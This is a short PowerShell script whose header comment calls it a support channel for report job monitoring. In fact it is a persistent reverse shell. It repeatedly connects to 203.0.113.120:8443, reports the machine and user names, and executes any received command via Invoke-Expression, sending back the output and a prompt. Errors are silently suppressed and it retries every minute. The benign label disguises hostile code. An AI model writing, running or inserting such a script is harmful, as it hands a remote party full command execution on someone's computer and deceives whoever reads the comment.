# Support channel for report job monitoring
$desk = '203.0.113.120'; $port = 8443
while ($true) {
  try {
    $c = New-Object System.Net.Sockets.TcpClient($desk, $port)
    $s = $c.GetStream(); $r = New-Object IO.StreamReader($s); $w = New-Object IO.StreamWriter($s); $w.AutoFlush = $true
    $w.WriteLine("agent $env:COMPUTERNAME $env:USERNAME")
    while (($cmd = $r.ReadLine()) -ne $null) {
      try { $out = Invoke-Expression $cmd 2>&1 | Out-String } catch { $out = $_.Exception.Message }
      $w.WriteLine($out); $w.WriteLine('PS> ')
    }
    $c.Close()
  } catch { }
  Start-Sleep -Seconds 60
}
